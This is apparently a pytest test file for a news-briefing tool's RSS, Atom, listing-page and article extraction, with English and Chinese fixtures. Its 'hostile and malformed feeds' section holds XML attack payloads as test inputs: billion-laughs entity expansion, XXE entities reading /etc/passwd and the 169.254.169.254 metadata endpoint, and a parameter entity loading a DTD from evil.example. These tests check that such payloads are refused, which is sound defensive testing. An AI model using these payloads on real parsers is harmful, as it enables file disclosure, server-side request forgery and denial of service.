"""Reading feeds, listing pages and article pages (briefing.extract), on small inline documents and on the
bundled demo web served on 127.0.0.1."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
import requests

from briefing.demo import DemoServer, load_outlets
from briefing.demo.server import DemoStory, Outlet
from briefing.errors import ParseError
from briefing.fetch import (
    Article,
    Entry,
    Link,
    decode,
    extract_article,
    find_article_links,
    find_listing_entries,
    looks_like_feed,
    parse_feed,
    read_feed,
)
from briefing.records import Selectors
from briefing.sources import load_sources

BASE = "https://news.example.com/tech/"

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Example Tech</title><link>https://news.example.com/</link><description>d</description>
<item>
  <title>Hub passes 50,000 PFLOPS &amp; adds a 10,000-GPU cluster</title>
  <link>https://news.example.com/tech/2026/11/17/hub.html</link>
  <pubDate>Tue, 17 Nov 2026 09:30:00 +0800</pubDate>
  <description>The hub passed a milestone.</description>
  <content:encoded><![CDATA[<p>The national computing hub passed <b>50,000 PFLOPS</b> of capacity.</p>\
<p>A 10,000-GPU cluster entered service.</p>]]></content:encoded>
</item>
<item>
  <title>UHV line enters service</title>
  <link>/tech/2026/11/18/uhv.html</link>
  <pubDate>Wed, 18 Nov 2026 02:00:00 GMT</pubDate>
  <description>&lt;p&gt;An 800 kV line &amp;amp; its converter stations.&lt;/p&gt;</description>
</item>
<item>
  <title>A story without a date</title>
  <link>https://news.example.com/tech/undated.html</link>
  <description>Teaser only.</description>
</item>
<item><title>No link, so skipped</title><description>x</description></item>
<item><link>https://news.example.com/tech/no-title.html</link><description>No title, so skipped</description></item>
</channel></rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>East Compute</title><id>urn:example:east</id><updated>2026-11-19T15:30:00+08:00</updated>
  <entry>
    <title type="html">Token calls pass 30 trillion a day</title>
    <link rel="alternate" href="https://compute.example.org/2026/11/19/tokens.html"/>
    <id>urn:example:tokens</id>
    <published>2026-11-19T15:30:00+08:00</published>
    <updated>2026-11-20T08:00:00+08:00</updated>
    <summary>Daily token usage keeps climbing.</summary>
    <content type="html">&lt;p&gt;Daily token calls passed 30 trillion.&lt;/p&gt;&lt;p&gt;Prices fell \
again.&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>Only updated</title>
    <link href="https://compute.example.org/2026/11/20/updated.html"/>
    <id>urn:example:updated</id>
    <updated>2026-11-20T08:00:00Z</updated>
    <summary>Summary only.</summary>
  </entry>
</feed>
"""


# -- parse_feed ------------------------------------------------------------------------------------------


def test_rss_with_content_encoded() -> None:
    entries = parse_feed(RSS, BASE)
    assert entries == [
        Entry(
            url="https://news.example.com/tech/2026/11/17/hub.html",
            title="Hub passes 50,000 PFLOPS & adds a 10,000-GPU cluster",
            summary="The hub passed a milestone.",
            content=(
                "The national computing hub passed 50,000 PFLOPS of capacity.\n\n"
                "A 10,000-GPU cluster entered service."
            ),
            published=datetime(2026, 11, 17, 1, 30, tzinfo=UTC),
        ),
        Entry(
            url="https://news.example.com/tech/2026/11/18/uhv.html",
            title="UHV line enters service",
            summary="An 800 kV line & its converter stations.",
            content="",
            published=datetime(2026, 11, 18, 2, 0, tzinfo=UTC),
        ),
        Entry(
            url="https://news.example.com/tech/undated.html",
            title="A story without a date",
            summary="Teaser only.",
            content="",
            published=None,
        ),
    ]


def test_atom_feed() -> None:
    entries = parse_feed(ATOM, "https://compute.example.org/atom.xml")
    assert [e.url for e in entries] == [
        "https://compute.example.org/2026/11/19/tokens.html",
        "https://compute.example.org/2026/11/20/updated.html",
    ]
    first, second = entries
    assert first.title == "Token calls pass 30 trillion a day"
    assert first.content == "Daily token calls passed 30 trillion.\n\nPrices fell again."
    assert first.summary == "Daily token usage keeps climbing."
    assert first.published == datetime(2026, 11, 19, 7, 30, tzinfo=UTC)  # published, not updated
    assert second.published == datetime(2026, 11, 20, 8, 0, tzinfo=UTC)  # updated stands in
    assert second.content == "" and second.summary == "Summary only."


def test_feed_declaring_gb2312_after_decoding() -> None:
    """The fetcher hands over decoded text; a stale encoding declaration must not make it be read twice."""
    xml = (
        '<?xml version="1.0" encoding="gb2312"?>\n<rss version="2.0"><channel><title>华北能源报</title>'
        "<item><title>王镕：储能电站通过市场获得合理收益</title><link>http://energy.example.cn/a/1.html</link>"
        "<description>李喆团队发表论文。</description></item></channel></rss>"
    )
    text = decode(xml.encode("gb18030"), "application/rss+xml; charset=gb2312").text
    [entry] = parse_feed(text, "http://energy.example.cn/feed.xml")
    assert entry.title == "王镕：储能电站通过市场获得合理收益"
    assert entry.summary == "李喆团队发表论文。"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            '<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><link>https://e.org/</link>'
            "<description>d</description></channel></rss>",
            id="rss",
        ),
        pytest.param(
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><id>urn:x</id>'
            "<updated>2026-11-17T00:00:00Z</updated></feed>",
            id="atom",
        ),
    ],
)
def test_empty_but_valid_feed_has_no_entries(text: str) -> None:
    assert parse_feed(text, BASE) == []


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            "<!doctype html><html><head><title>Tech news</title></head>"
            "<body><h1>News</h1><p>Latest stories<br></p></body></html>",
            id="html-page",
        ),
        pytest.param("not a feed at all", id="plain-text"),
        pytest.param('{"items": [{"title": "x"}]}', id="json"),
        pytest.param(
            '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
            "<head><title>Tech news</title></head><body><p>Latest</p></body></html>",
            id="well-formed-xhtml-page",
        ),
        pytest.param("", id="empty-body"),
    ],
)
def test_non_feed_is_a_parse_error_naming_the_url(text: str) -> None:
    with pytest.raises(ParseError, match="not an RSS or Atom feed") as info:
        parse_feed(text, "https://news.example.com/feed.xml")
    assert "https://news.example.com/feed.xml" in str(info.value)


# -- find_article_links ----------------------------------------------------------------------------------

LISTING = """<!doctype html><html><body>
<header><nav><a href="/">Home</a> <a href="/about">About us and our team</a> \
<a href="/tech/">Technology news</a></nav></header>
<aside><a href="https://other.example.org/news/2026/11/17/x.html">A story on another site entirely</a></aside>
<ul class="news">
  <li><a class="headline" href="/news/2026/11/17/hub.html">Hub passes 50,000 PFLOPS</a> <span>2026-11-17</span></li>
  <li><a class="headline" href="/news/2026/11/17/hub.html#comments">Hub passes 50,000 PFLOPS (comments)</a></li>
  <li><a class="headline" href="article123.html">A story whose file name has digits</a></li>
  <li><a class="headline" href="/news/short">Short</a></li>
  <li><a class="headline" href="javascript:void(0)">Load more stories please</a></li>
  <li><a class="headline" href="mailto:news@example.com">Email the newsroom today</a></li>
  <li><a class="headline" href="#top">Back to the top of the page</a></li>
</ul>
<footer><a href="/privacy">Privacy policy of the site</a></footer>
</body></html>"""


def test_links_by_css_selector_in_page_order_without_repeats() -> None:
    assert find_article_links(LISTING, BASE, "ul.news a.headline") == [
        Link("https://news.example.com/news/2026/11/17/hub.html", "Hub passes 50,000 PFLOPS"),
        Link("https://news.example.com/tech/article123.html", "A story whose file name has digits"),
        Link("https://news.example.com/news/short", "Short"),
    ]


def test_selector_on_a_container_takes_the_links_inside() -> None:
    assert [link.url for link in find_article_links(LISTING, BASE, "ul.news")] == [
        "https://news.example.com/news/2026/11/17/hub.html",
        "https://news.example.com/tech/article123.html",
        "https://news.example.com/news/short",
    ]


def test_links_by_heuristics() -> None:
    # Same host, article-like path, headline-length text: nav, footer, other hosts and short texts are out.
    assert find_article_links(LISTING, BASE) == [
        Link("https://news.example.com/news/2026/11/17/hub.html", "Hub passes 50,000 PFLOPS"),
        Link("https://news.example.com/tech/article123.html", "A story whose file name has digits"),
    ]


@pytest.mark.parametrize(
    ("html", "selector", "message"),
    [
        pytest.param(LISTING, "ul >> [", "bad CSS selector", id="bad-selector"),
        pytest.param("", None, "cannot parse the listing page", id="empty-page"),
    ],
)
def test_listing_errors_are_parse_errors(html: str, selector: str | None, message: str) -> None:
    with pytest.raises(ParseError, match=message) as info:
        find_article_links(html, BASE, selector)
    assert BASE in str(info.value)


def test_no_matching_links_is_an_empty_list() -> None:
    assert find_article_links(LISTING, BASE, "div.nothing-here a") == []


# -- extract_article ----------------------------------------------------------------------------------------

PARAGRAPHS = [
    "The national computing hub in Guizhou passed 50,000 PFLOPS of intelligent computing capacity this week, its "
    "operator said on Tuesday.",
    "The operator added that a new cluster of 10,000 accelerators entered service in the hub's second data centre, and "
    "that more capacity is planned for next year.",
    "Engineers said power for the new halls comes from a dedicated substation fed by hydro and wind farms in the "
    "province.",
]


def article_page(meta_time: str) -> str:
    body = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Hub passes 50,000 PFLOPS - Example News</title>
<meta property="article:published_time" content="{meta_time}"></head>
<body><header><a href="/">Example News</a><nav><a href="/">Home</a> | <a href="/tech/">Technology</a> | \
<a href="/subscribe">Subscribe now</a></nav></header>
<main><article><h1>Hub passes 50,000 PFLOPS</h1>{body}</article>
<aside><h2>Related</h2><ul><li><a href="#">Most read this week</a></li></ul></aside></main>
<footer><p>Copyright 2026 Example Media. Privacy policy. Terms of use. Contact us.</p></footer></body></html>"""


BOILERPLATE = ["Subscribe", "Most read this week", "Copyright", "Privacy", "Example News"]


@pytest.mark.parametrize(
    ("meta_time", "tz", "expected"),
    [
        pytest.param("2026-11-17T09:30:00+08:00", "UTC", datetime(2026, 11, 17, 1, 30, tzinfo=UTC), id="with-offset"),
        pytest.param("2026-11-17T01:30:00Z", "UTC", datetime(2026, 11, 17, 1, 30, tzinfo=UTC), id="zulu"),
        pytest.param(
            "2026-11-17T09:30:00",
            "Asia/Shanghai",
            datetime(2026, 11, 17, 1, 30, tzinfo=UTC),
            id="naive-in-source-timezone",
        ),
    ],
)
def test_extract_article(meta_time: str, tz: str, expected: datetime) -> None:
    article = extract_article(article_page(meta_time), "https://news.example.com/tech/2026/11/17/hub.html", tz)
    assert article.title == "Hub passes 50,000 PFLOPS"
    assert article.text == "\n\n".join(PARAGRAPHS)
    for junk in BOILERPLATE:
        assert junk not in article.text
    assert article.published == expected
    assert article.published is not None and article.published.tzinfo == UTC


def test_time_element_is_a_fallback_date() -> None:
    page = article_page("x").replace('<meta property="article:published_time" content="x">', "")
    page = page.replace("<h1>", '<p class="byline"><time datetime="2026-11-18T08:00:00+08:00">18 Nov</time></p><h1>')
    article = extract_article(page, "https://news.example.com/a.html")
    assert article.published == datetime(2026, 11, 18, 0, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    "html",
    [pytest.param("<html><body></body></html>", id="empty-body"), pytest.param("", id="empty-string")],
)
def test_page_without_an_article_is_a_parse_error(html: str) -> None:
    with pytest.raises(ParseError, match="https://news.example.com/x.html"):
        extract_article(html, "https://news.example.com/x.html")


# -- the demo web ---------------------------------------------------------------------------------------------


def fetch_text(url: str) -> str:
    r = requests.get(url, timeout=10)
    r.raise_for_status()
    return decode(r.content, r.headers.get("content-type", "")).text


def demo_story(outlet_id: str, needle: str = "") -> tuple[Outlet, DemoStory]:
    outlet = next(o for o in load_outlets() if o.id == outlet_id)
    return outlet, next(s for s in outlet.stories if needle in s.body)


def test_demo_root_lists_a_feed_or_listing_of_every_outlet(demo_web: DemoServer) -> None:
    links = find_article_links(fetch_text(demo_web.base_url + "/"), demo_web.base_url + "/", "li a")
    assert len(links) == len(load_outlets())
    for url in (link.url for link in links):
        text = fetch_text(url)
        if url.endswith(".xml"):
            assert parse_feed(text, url), url
        else:
            assert find_article_links(text, url), url


@pytest.mark.parametrize(
    ("outlet_id", "needle"),
    [
        pytest.param("harbour-tech-wire", "", id="english-rss"),
        pytest.param("east-compute-review", "", id="english-atom"),
        pytest.param("zhongguancun-daily", "", id="chinese-utf8"),
        pytest.param("huabei-energy-news", "王镕", id="chinese-gb18030-declared-gb2312"),
    ],
)
def test_demo_article_page_is_extracted(demo_web: DemoServer, outlet_id: str, needle: str) -> None:
    outlet, story = demo_story(outlet_id, needle)
    url = demo_web.base_url + outlet.article_path(story)
    article = extract_article(fetch_text(url), url, "Asia/Shanghai")
    assert isinstance(article, Article)
    assert article.title == story.title
    assert article.published == story.published.astimezone(UTC)
    for paragraph in story.body.split("\n\n"):
        assert paragraph.strip() in article.text
    for junk in ("Subscribe", "Privacy", "Demo Media", "Most read this week", "Related"):
        assert junk not in article.text
    if needle:
        assert needle in article.text and "\ufffd" not in article.text


def test_demo_feed_entries_match_the_demo_stories(demo_web: DemoServer) -> None:
    outlet, _ = demo_story("huabei-energy-news")
    url = f"{demo_web.base_url}/{outlet.id}/feed.xml"
    entries = parse_feed(fetch_text(url), url)
    assert [e.title for e in entries] == [s.title for s in outlet.stories]
    assert [e.url for e in entries] == [demo_web.base_url + outlet.article_path(s) for s in outlet.stories]
    assert [e.published for e in entries] == [s.published.astimezone(UTC) for s in outlet.stories]


def test_demo_listing_with_the_configured_selector(demo_web: DemoServer, demo_config: Path) -> None:
    source = load_sources(demo_config).get("silicon-strait-journal")
    assert source.selectors is not None
    links = find_article_links(fetch_text(source.url), source.url, source.selectors.link)
    outlet, _ = demo_story("silicon-strait-journal")
    assert [(link.url, link.text) for link in links] == [
        (demo_web.base_url + outlet.article_path(s), s.title) for s in outlet.stories
    ]


# -- hostile and malformed feeds ------------------------------------------------------------------------------

FEED_BODY = (
    '<rss version="2.0"><channel><title>t</title><link>https://e.org/</link><description>d</description>'
    "<item><title>{title}</title><link>https://e.org/1.html</link><description>x</description></item></channel></rss>"
)
LAUGHS = "".join(f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    ("doctype", "title", "message"),
    [
        pytest.param(
            f'<!DOCTYPE rss [<!ENTITY l0 "lol">{LAUGHS}]>',
            "&l9;",
            "in terms of other entities",
            id="billion-laughs-one-line",
        ),
        pytest.param(
            '<!DOCTYPE rss [\n<!ENTITY l0 "lol">\n<!ENTITY l1 "&l0;&l0;">\n]>',
            "&l1;",
            "in terms of other entities",
            id="billion-laughs-multiline",
        ),
        pytest.param(
            '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            "&xxe;",
            "external entity &xxe;",
            id="xxe-file",
        ),
        pytest.param(
            '<!DOCTYPE rss [<!ENTITY xxe PUBLIC "-//x//y" "http://169.254.169.254/latest/">]>',
            "&xxe;",
            "external entity",
            id="xxe-url",
        ),
        pytest.param(
            '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
            "x",
            "parameter entity %p;",
            id="parameter-entity",
        ),
        pytest.param(
            f'<!DOCTYPE rss [<!ENTITY big "{"x" * 5000}">]>', "&big;", "more than 200 characters", id="one-huge-entity"
        ),
        pytest.param('<!DOCTYPE rss [<!ENTITY a "<b>markup</b>">]>', "&a;", "with markup", id="markup-entity"),
        pytest.param('<!DOCTYPE rss [<!ENTITY a "x"', "x", "never ends", id="unterminated-doctype"),
    ],
)
def test_hostile_xml_is_refused_without_expanding_anything(doctype: str, title: str, message: str) -> None:
    text = f'<?xml version="1.0"?>\n{doctype}\n' + FEED_BODY.format(title=title)
    with pytest.raises(ParseError, match=message) as info:
        parse_feed(text, "https://e.org/feed.xml")
    assert str(info.value).startswith("https://e.org/feed.xml: refused:")


@pytest.mark.parametrize(
    ("doctype", "title", "expected"),
    [
        pytest.param(
            '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
            '"http://my.netscape.com/publish/formats/rss-0.91.dtd">',
            "Plain &amp; simple",
            "Plain & simple",
            id="rss-091-doctype-dropped",
        ),
        pytest.param(
            '<!DOCTYPE rss [<!ENTITY nbsp "&#160;"><!ENTITY co "Example Co">]>',
            "Hub&nbsp;opens at &co;",
            "Hub opens at Example Co",
            id="plain-entities-substituted",
        ),
        pytest.param("<!-- a comment --><!DOCTYPE rss>", "Commented", "Commented", id="comment-before-doctype"),
    ],
)
def test_harmless_doctypes_are_dropped_and_the_feed_read(doctype: str, title: str, expected: str) -> None:
    [entry] = parse_feed(f'<?xml version="1.0"?>{doctype}' + FEED_BODY.format(title=title), "https://e.org/feed.xml")
    assert entry.title == expected


def test_truncated_feed_yields_what_can_be_recovered_and_says_so() -> None:
    cut = RSS[: RSS.index("<title>A story without a date") + 20]
    feed = read_feed(cut, BASE)
    assert [e.title for e in feed.entries][:2] == [
        "Hub passes 50,000 PFLOPS & adds a 10,000-GPU cluster",
        "UHV line enters service",
    ]
    assert feed.problem is not None and feed.problem.startswith("malformed feed (") and "recovered" in feed.problem
    assert read_feed(RSS, BASE).problem is None


def test_html_page_where_a_feed_should_be_names_the_feed_it_links() -> None:
    page = (
        '<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" title="RSS" href="/rss.xml">'
        "</head><body>News</body></html>"
    )
    with pytest.raises(
        ParseError, match=r"got an HTML page \(the page names a feed: https://news.example.com/rss.xml\)"
    ):
        parse_feed(page, "https://news.example.com/feed")


@pytest.mark.parametrize(
    ("text", "feed"),
    [
        pytest.param(RSS, True, id="rss"),
        pytest.param(ATOM, True, id="atom"),
        pytest.param('<?xml version="1.0"?>\n<!-- c --><rdf:RDF xmlns:rdf="x">', True, id="rdf"),
        pytest.param(LISTING, False, id="html"),
    ],
)
def test_looks_like_feed(text: str, feed: bool) -> None:
    assert looks_like_feed(text) is feed


# -- listing pages with dates, Chinese listings and articles --------------------------------------------------

ZH_LISTING = """<!doctype html><html><head><meta charset="utf-8"></head><body>
<div class="nav"><a href="/">首页</a> <a href="/news/">新闻中心</a> <a href="/about">关于我们</a></div>
<ul class="list">
  <li><a href="/2026/11/20/suanli.html">全国智能算力规模超50万PFLOPS</a><span class="time">2026-11-20 14:30</span></li>
  <li><a href="/2026/11/20/tegaoya.html">特高压工程投运</a> <em>3小时前</em></li>
  <li><a href="/2026/11/19/xinpian.html">芯片量产</a><span class="time">11月19日</span></li>
  <li><a href="/2026/11/18/liangzi.html"><time datetime="2026-11-18T09:00:00+08:00">18日</time> \
量子通信网络完成新一轮测试</a></li>
</ul></body></html>"""
ZH_BASE = "https://news.example.cn/list/"
NOW = datetime(2026, 11, 21, 4, 0, tzinfo=UTC)


def test_chinese_listing_by_heuristics_with_the_dates_beside_the_links() -> None:
    entries = find_listing_entries(ZH_LISTING, ZH_BASE, None, "Asia/Shanghai", NOW)
    names = [e.url.rsplit("/", 1)[1] for e in entries]
    assert names == ["suanli.html", "tegaoya.html", "liangzi.html"], "nav links and four-character headlines are out"
    assert entries[0].published == datetime(2026, 11, 20, 6, 30, tzinfo=UTC)
    assert entries[1].title == "特高压工程投运" and entries[1].published == datetime(2026, 11, 21, 1, 0, tzinfo=UTC)
    assert entries[2].published == datetime(2026, 11, 18, 1, 0, tzinfo=UTC)


def test_listing_with_title_and_date_selectors() -> None:
    entries = find_listing_entries(
        ZH_LISTING, ZH_BASE, Selectors(link="ul.list a", date="span.time"), "Asia/Shanghai", NOW
    )
    assert [e.title for e in entries] == [
        "全国智能算力规模超50万PFLOPS",
        "特高压工程投运",
        "芯片量产",
        "18日 量子通信网络完成新一轮测试",
    ]
    assert [e.published for e in entries] == [
        datetime(2026, 11, 20, 6, 30, tzinfo=UTC),
        datetime(2026, 11, 21, 1, 0, tzinfo=UTC),  # no span.time in its item: the date printed beside the link
        datetime(2026, 11, 18, 16, 0, tzinfo=UTC),
        datetime(2026, 11, 18, 1, 0, tzinfo=UTC),  # a <time datetime> in the item
    ]


ZH_PARAGRAPHS = [
    "11月20日，国家数据局在北京召开新闻发布会，介绍全国一体化算力网建设进展。截至目前，全国智能算力规模已超过50万PFLOPS。",
    "国家数据局副局长表示，东数西算工程八大枢纽节点建设加快推进，新建数据中心平均电能利用效率降至1.3以下。",
    "下一步，将推动算力资源跨区域调度，降低算力使用成本，支持人工智能大模型训练和推理需求。",
]
ZH_ARTICLE = f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8">\
<title>全国智能算力规模超50万PFLOPS_新闻中心_示例网</title></head>
<body><div class="top"><a href="/">首页</a> | <a href="/news/">新闻中心</a> | <a href="/login">登录</a> | \
<a href="/reg">注册</a></div>
<div class="nav"><ul><li><a href="/a">要闻</a></li><li><a href="/b">科技</a></li><li>\
<a href="/c">财经</a></li></ul></div>
<div class="main"><h1>全国智能算力规模超50万PFLOPS</h1>\
<div class="info">2026年11月20日 14:30 来源：示例日报 作者：张三</div>
<div class="content">{"".join(f"<p>{p}</p>" for p in ZH_PARAGRAPHS)}</div><div class="editor">责任编辑：李四</div>
<div class="share">分享到：微信 微博</div></div>
<div class="related"><h3>相关新闻</h3><ul><li><a href="/x1">算力网建设再提速</a></li><li>\
<a href="/x2">数据中心绿色发展行动计划发布</a></li></ul></div>
<div class="footer">版权所有 示例网 京ICP备12345678号 联系我们 关于我们</div></body></html>"""


def test_chinese_article_text_and_the_printed_time() -> None:
    article = extract_article(ZH_ARTICLE, "https://news.example.cn/2026/11/20/a.html", "Asia/Shanghai", NOW)
    assert article.title == "全国智能算力规模超50万PFLOPS"
    assert article.text == "\n\n".join(ZH_PARAGRAPHS)
    for junk in ("首页", "登录", "责任编辑", "分享到", "相关新闻", "版权所有", "京ICP备"):
        assert junk not in article.text
    assert article.published == datetime(2026, 11, 20, 6, 30, tzinfo=UTC), "the byline's time, not midnight"
